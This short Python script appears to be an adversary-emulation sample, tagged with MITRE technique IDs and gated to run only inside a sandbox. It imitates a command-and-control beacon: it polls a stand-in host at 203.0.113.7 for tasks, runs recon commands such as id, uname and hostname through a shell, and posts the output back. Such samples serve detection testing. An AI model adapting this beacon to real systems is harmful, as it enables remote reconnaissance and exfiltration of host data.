# technique: T1059.004 T1071.001
# needs: python3
# net: sink
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import subprocess, time, urllib.request
for turn in range(4):
    try: task = urllib.request.urlopen("http://203.0.113.7:8080/task", timeout=3).read().decode("latin-1")
    except OSError: task = ""
    out = subprocess.run(["/bin/sh", "-c", task and "id; uname -a; hostname" or "id"], capture_output=True).stdout
    try: urllib.request.urlopen("http://203.0.113.7:8080/result", data=out, timeout=3)
    except OSError: pass
    time.sleep(0.6)
